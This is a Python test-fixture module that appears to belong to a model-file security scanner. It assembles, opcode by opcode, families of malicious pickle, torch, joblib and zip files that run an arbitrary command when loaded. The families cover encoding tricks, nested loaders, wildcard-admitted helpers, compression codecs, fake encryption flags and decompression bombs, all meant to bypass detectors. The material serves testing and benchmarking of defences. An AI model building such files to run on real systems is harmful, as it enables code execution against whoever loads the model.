"""The bypass classes of issue #13 as families of files, each built opcode by opcode or with
zipfile/struct, never pickled from live objects and never loaded.

Each family maps a file name to its bytes; every malicious file would run ``command`` when loaded
with ``pickle.load``, ``torch.load(weights_only=False)`` or ``joblib.load``. The tests, the
marker-file test and the bypass benchmark all use these families.
"""

from __future__ import annotations

import random

from .builders import su


def _call_tail(command: str) -> bytes:
    """``<callable on the stack>(command)`` then STOP."""
    return su(command) + b"\x85R."


def headerless(command: str) -> dict[str, bytes]:
    """Class 1: pickles without a PROTO header, starting with any opcode, using the memo."""
    sg = su("os") + b"\x94" + su("system") + b"\x93"
    via_memo = su("os") + b"q\x00" + b"0" + b"h\x00" + su("system") + b"\x93"
    tail = _call_tail(command)
    cases = {
        "short_binunicode.pkl": via_memo + tail,
        "unicode.pkl": b"Vos\np0\n0g0\nVsystem\n\x93" + tail,
        "string.pkl": b"S'os'\np0\n0g0\nS'system'\n\x93" + tail,
        "binunicode.pkl": b"X\x02\x00\x00\x00osX\x06\x00\x00\x00system\x93" + tail,
        "mark.pkl": b"(" + sg + su(command) + b"\x85Rt.",
        "none_pop.pkl": b"N0" + sg + tail,
        "binint.pkl": b"K\x010" + sg + tail,
        "empty_dict.pkl": b"}" + sg + su(command) + b"\x85R0.",
        "frame.pkl": b"\x95" + (len(sg) + 4).to_bytes(8, "little") + sg + tail,
        "proto0_mixed.pkl": b"(Vos\nVsystem\n\x93S'" + command.encode() + b"'\ntR.",
        "memo_long.pkl": su("os") + b"r\x07\x00\x00\x000j\x07\x00\x00\x00" + su("system") + b"\x93"
        + tail,
        "no_extension": via_memo + tail,
        "weights.dat": b"Vos\np0\n0g0\nVsystem\n\x93" + tail,
    }  # fmt: skip
    return {f"headerless_{name}": data for name, data in cases.items()}


def unparseable(seed: int = 13) -> dict[str, bytes]:
    """Class 2: garbage and broken streams named like model files."""
    rng = random.Random(seed)

    def noise(n: int) -> bytes:
        return bytes(rng.randrange(256) for _ in range(n))

    garbage = noise(4096)
    names = [
        "model.pkl", "model.pickle", "model.pt", "model.pth", "model.ckpt", "model.joblib",
        "model.dill", "model.safetensors", "model.gguf", "model.onnx", "model.h5", "model.keras",
        "model.npy", "model.npz", "model.tflite", "model.msgpack", "model.mlmodel",
    ]  # fmt: skip
    cases = {name: b"\xff" + garbage[1:] for name in names}
    cases["truncated.pkl"] = b"\x80\x04\x95\x10" + b"\x00" * 7 + su("collections")
    cases["bad_opcode.pkl"] = b"\x80\x04" + su("os") + b"\xfe" + noise(64)
    return {f"unparseable_{name}": data for name, data in cases.items()}


def _g(module: str, name: str) -> bytes:
    return su(module) + su(name) + b"\x93"


def _text(value: str) -> bytes:
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + len(raw).to_bytes(4, "little") + raw


def _bytes(value: bytes) -> bytes:
    return b"B" + len(value).to_bytes(4, "little") + value


def _call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def nested_loaders(command: str) -> dict[str, bytes]:
    """Class 3: loaders (allowlisted or not) fed a hidden pickle, however it is encoded."""
    import base64
    import codecs
    import zlib

    inner = b"\x80\x04" + _g("os", "system") + su(command) + b"\x85R."
    latin = inner.decode("latin-1")
    io_wrap = _call(_g("io", "BytesIO"), _bytes(inner))
    cases = {
        "torch_load_from_bytes.pkl": _call(_g("torch.storage", "_load_from_bytes"), _bytes(inner)),
        "torch_load.pkl": _call(_g("torch", "load"), io_wrap),
        "torch_serialization_load.pkl": _call(_g("torch.serialization", "load"), io_wrap),
        "numpy_load.pkl": _call(_g("numpy", "load"), io_wrap, b"N\x88"),
        "pickle_loads_bytes.pkl": _call(_g("pickle", "loads"), _bytes(inner)),
        "codecs_latin1.pkl": _call(
            _g("pickle", "loads"), _call(_g("_codecs", "encode"), _text(latin), su("latin1"))
        ),
        "codecs_rot13.pkl": _call(
            _g("_pickle", "loads"),
            _call(
                _g("_codecs", "encode"),
                _call(_g("_codecs", "encode"), _text(codecs.encode(latin, "rot13")), su("rot13")),
                su("latin1"),
            ),
        ),
        "codecs_base64.pkl": _call(
            _g("pickle", "loads"),
            _call(_g("_codecs", "decode"), _text(base64.b64encode(inner).decode()), su("base64")),
        ),
        "codecs_hex.pkl": _call(
            _g("dill", "loads"), _call(_g("_codecs", "decode"), _text(inner.hex()), su("hex"))
        ),
        "bytes_fromhex.pkl": _call(
            _g("pickle", "loads"), _call(_g("builtins", "bytes.fromhex"), _text(inner.hex()))
        ),
        "b64decode.pkl": _call(
            _g("cloudpickle", "loads"),
            _call(_g("base64", "b64decode"), _text(base64.b64encode(inner).decode())),
        ),
        "zlib.pkl": _call(
            _g("pickle", "loads"), _call(_g("zlib", "decompress"), _bytes(zlib.compress(inner)))
        ),
        "joblib_load.pkl": _call(_g("joblib", "load"), io_wrap),
    }
    return {f"loader_{name}": b"\x80\x04" + data + b"." for name, data in cases.items()}


def wildcard_admitted(command: str) -> dict[str, bytes]:
    """Class 4: dangerous helpers reached through namespaces an allowlist admits by wildcard."""
    cases = {
        "sklearn_testing.pkl": _call(
            _g("sklearn.utils._testing", "assert_run_python_script_without_output"),
            su(f"import os; os.system({command!r})"),
        ),
        "scipy_partial.pkl": _call(
            _call(_g("scipy.spatial.distance", "partial"), _g("builtins", "print"), su(command))
        ),
        "scipy_moduletype.pkl": _call(
            _g("scipy.spatial.transform._rotation", "ModuleType"), su("payload")
        ),
        "numpy_testing.pkl": _call(
            _g("numpy.testing._private.utils", "runstring"),
            su(f"__import__('os').system({command!r})"),
            b"}",
        ),
        "torch_testing.pkl": _call(
            _g("torch.testing._internal.common_utils", "shell"), su(command)
        ),
        "test_support.pkl": _call(
            _g("test.support.script_helper", "assert_python_ok"), su("-c"), su(command)
        ),
        "pandas_testing.pkl": _call(_g("pandas._testing", "ensure_clean"), su(command)),
    }  # fmt: skip
    return {f"wildcard_{name}": b"\x80\x04" + data + b"." for name, data in cases.items()}


def unknown_invoked(command: str) -> dict[str, bytes]:
    """Class 7: callables outside both lists, invoked at load time, and the peers' advisories."""
    targets = [
        ("torch.utils.bottleneck.__main__", "run_cprofile"),
        ("torch.utils._config_module", "ConfigModule.load_config"),
        ("test.support.script_helper", "run_python_until_end"),
        ("pip", "main"),
        ("pip._internal.cli.main", "main"),
        ("_posixsubprocess", "fork_exec"),
        ("code", "InteractiveInterpreter.runsource"),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
        ("torch._dynamo.guards", "GuardBuilder.get"),
        ("torch._inductor.codecache", "compile_file"),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("doctest", "debug_script"),
        ("ensurepip", "_run_pip"),
        ("trace", "Trace.run"),
        ("uuid", "_get_command_stdout"),
        ("difflib", "restore"),
        ("mmap", "mmap"),
        ("select", "select"),
        ("mylab.tools", "launch"),
        ("thirdparty.plugins", "Loader"),
    ]
    cases = {
        f"{module}.{name}.pkl": b"\x80\x04" + _call(_g(module, name), su(command)) + b"."
        for module, name in targets
    }
    cases["newobj_unknown.pkl"] = b"\x80\x04" + _g("evil.pkg", "Runner") + b")\x81}b."
    cases["build_setstate.pkl"] = (
        b"\x80\x02" + _call(_g("copyreg", "_reconstructor"), _g("evil.pkg", "Runner"),
                            _g("builtins", "object"), b"N") + su(command) + b"b."
    )  # fmt: skip
    return {f"invoked_{name}": data for name, data in cases.items()}


def _pickle(command: str) -> bytes:
    return b"\x80\x04" + _g("os", "system") + su(command) + b"\x85R."


def lz4_frame(data: bytes, *, compressed: bool = True) -> bytes:
    """An LZ4 frame (what joblib's lz4 compressor writes) holding ``data`` in one block:
    literals only when ``compressed``, else a raw block."""
    header = b"\x04\x22\x4d\x18" + bytes([0x60, 0x70]) + b"\x73"  # independent blocks, 4 MiB
    if compressed:
        n = len(data)
        token = bytes([min(n, 15) << 4]) + (
            b"\xff" * ((n - 15) // 255) + bytes([(n - 15) % 255]) if n >= 15 else b""
        )
        block = token + data
        size = len(block).to_bytes(4, "little")
    else:
        block = data
        size = (len(data) | 0x80000000).to_bytes(4, "little")
    return header + size + block + b"\x00\x00\x00\x00"


def compressed_joblib(command: str) -> dict[str, bytes]:
    """Class 5: a joblib file compressed in every codec joblib reads."""
    import bz2
    import gzip
    import lzma
    import zlib

    payload = _pickle(command)
    alone = lzma.compress(payload, format=lzma.FORMAT_ALONE)
    legacy = b"ZF" + hex(len(payload)).encode().ljust(19) + zlib.compress(payload)
    cases = {
        "zlib.joblib": zlib.compress(payload),
        "gzip.joblib": gzip.compress(payload, mtime=0),
        "bz2.joblib": bz2.compress(payload),
        "xz.joblib": lzma.compress(payload),
        "lzma.joblib": alone,
        "lz4.joblib": lz4_frame(payload),
        "lz4_raw.joblib": lz4_frame(payload, compressed=False),
        "model.pkl.z": zlib.compress(payload),
        "model.pkl.lzma": alone,
        "model.pkl.lz4": lz4_frame(payload),
        "legacy_zf.pkl": legacy,
    }
    return {f"compressed_{name}": data for name, data in cases.items()}


def encryption_flag(command: str) -> dict[str, bytes]:
    """Class 6: zip members flagged as encrypted over plain data, which torch.load reads."""
    import io
    import struct
    import zipfile

    cases = {}
    for method_name, method in (("stored", zipfile.ZIP_STORED), ("deflated", zipfile.ZIP_DEFLATED)):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", compression=method) as archive:
            archive.writestr("archive/data.pkl", _pickle(command))
            archive.writestr("archive/version", b"3\n")
        raw = buffer.getvalue()
        central = raw.index(b"PK\x01\x02")
        for where in ("both", "central", "local"):
            data = bytearray(raw)
            if where in ("both", "local"):
                struct.pack_into("<H", data, 6, data[6] | 1)
            if where in ("both", "central"):
                struct.pack_into("<H", data, central + 8, data[central + 8] | 1)
            cases[f"{method_name}_{where}.pt"] = bytes(data)
    return {f"encflag_{name}": data for name, data in cases.items()}


def bombs(command: str, size: int = 64 << 20) -> dict[str, bytes]:
    """Class 9: decompression bombs whose payload comes after ``size`` bytes of padding."""
    import gzip
    import io
    import zipfile
    import zlib

    padded = (
        b"\x80\x04\x8e" + size.to_bytes(8, "little") + bytes(size) + b"0" + _pickle(command)[2:]
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", padded)
        archive.writestr("archive/version", b"3\n")
    return {
        "bomb_torch.pt": buffer.getvalue(),
        "bomb_pickle.pkl.gz": gzip.compress(padded, 9, mtime=0),
        "bomb_joblib.joblib": zlib.compress(padded, 9),
    }
